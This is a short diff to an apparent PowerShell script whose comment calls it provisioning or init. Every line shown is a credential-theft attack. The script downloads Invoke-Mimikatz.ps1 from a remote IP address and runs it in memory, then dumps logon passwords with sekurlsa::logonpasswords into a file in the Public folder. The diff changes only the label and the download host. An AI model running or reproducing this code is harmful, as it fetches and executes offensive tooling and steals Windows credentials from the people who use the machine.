@@ -1,3 +1,3 @@
-# provision 3537 v4
-IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.17/Invoke-Mimikatz.ps1')
+# init 4327 v4
+IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/Invoke-Mimikatz.ps1')
 Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords"' | Out-File C:\Users\Public\o.txt
